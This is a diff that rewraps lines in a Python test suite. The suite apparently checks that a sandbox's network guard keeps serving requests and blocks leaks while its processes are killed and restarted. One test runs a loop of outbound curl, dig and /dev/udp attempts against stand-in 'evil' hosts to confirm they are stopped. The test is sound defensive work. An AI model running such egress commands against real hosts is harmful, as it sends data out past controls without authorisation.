@@ -1,4 +1,4 @@
-"""Attacks while something dies: the guard, the front. What waits is served by the next one, and nothing leaks meanwhile."""
+"""Attacks while something dies: the guard, the front. What comes is served by the next one, and nothing leaks."""
 import os
 import signal
 import threading
@@ -28,10 +28,11 @@ class Death(attack.Case):
     KILLS = 4
 
     def test_the_next_one_serves_who_comes(self, user):
-        """Requests all the time, and guards that die. What was open is cut, and a name that was asked for just before is
-        asked for again; nothing hangs."""
+        """Requests all the time, and guards that die. What was open is cut, and a name that was asked for just before
+        is asked for again; nothing hangs."""
         box = self.box(network=NAMES)
-        box.spawn("while [ ! -e /tmp/stop ]; do curl -s -m 30 -o /dev/null -w '%{http_code}\\n' http://a.test/who; done >/tmp/codes; "
+        box.spawn("while [ ! -e /tmp/stop ]; do curl -s -m 30 -o /dev/null -w '%{http_code}\\n' http://a.test/who; "
+                  "done >/tmp/codes; "
                   "echo done >>/tmp/codes")
         for _ in range(self.KILLS):
             seen = attack.bed.now()
@@ -50,7 +51,8 @@ class Death(attack.Case):
         old = attack.guard()
         os.kill(old, signal.SIGSTOP)  # it accepts nothing any more
         try:
-            waiting = threading.Thread(target=lambda: said.append(box.sh("curl -sS -m 40 http://a.test/who", user=user)))
+            waiting = threading.Thread(target=lambda: said.append(box.sh("curl -sS -m 40 http://a.test/who",
+                                                                         user=user)))
             said = []
             waiting.start()
             until(lambda: "curl" in box.says("cat /proc/[0-9]*/comm 2>/dev/null; true"))
@@ -61,8 +63,10 @@ class Death(attack.Case):
 
     def test_nothing_leaks_meanwhile(self, user):
         box, blocked = self.box(network=NAMES), self.box(allow_internet_access=False)
-        attempts = (f"while :; do curl -s -m1 -o /dev/null http://{world.EVIL}/ & curl -s -m1 -o /dev/null http://evil.test/ & "
-                    f"dig +tries=1 +time=1 x.evil.test @{world.EVIL} >/dev/null & echo x >/dev/udp/{world.EVIL}/9999; wait; done")
+        attempts = (f"while :; do curl -s -m1 -o /dev/null http://{world.EVIL}/ & curl -s -m1 -o /dev/null "
+                    f"http://evil.test/ & "
+                    f"dig +tries=1 +time=1 x.evil.test @{world.EVIL} >/dev/null & echo x "
+                    f">/dev/udp/{world.EVIL}/9999; wait; done")
         for one in (box, blocked):
             one.spawn(attempts)
         with self.nothing():
@@ -82,7 +86,8 @@ class Death(attack.Case):
         self.sh(box, "curl -sS -m10 https://a.test/who", user)
         self.kill_guard()
         with self.only(world.A, names=["a.test"]) as seen:
-            self.assertIn('"who": "a"', self.sh(box, "curl -sS -m20 https://a.test/who", user), "with the same certificate")
+            self.assertIn('"who": "a"', self.sh(box, "curl -sS -m20 https://a.test/who", user),
+                          "with the same certificate")
             self.assertIn("value-that-is-kept", str(seen.requests(local=world.A)))
             self.assertNotIn('"who"', changed.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])
             self.assertIn('"who": "a"', self.sh(changed, "curl -sS -m20 http://a.test/who", user))
@@ -117,7 +122,9 @@ class Death(attack.Case):
         guard, front = attack.guard(), attack.site.front()
         os.kill(guard, signal.SIGKILL)
         os.kill(front, signal.SIGKILL)
-        self.assertTrue(until(lambda: attack.guard() not in (None, guard) and attack.child("sandglass-front") not in (None, front)))
+        self.assertTrue(until(lambda: attack.guard() not in (None,
+                                                             guard) and attack.child("sandglass-front") not in (None,
+                                                                                                                front)))
         self.assertTrue(until(self.healthy))
         with self.only(world.A, names=["a.test"]):
             self.assertIn('"who": "a"', self.sh(box, "curl -sS -m20 http://a.test/who", user))
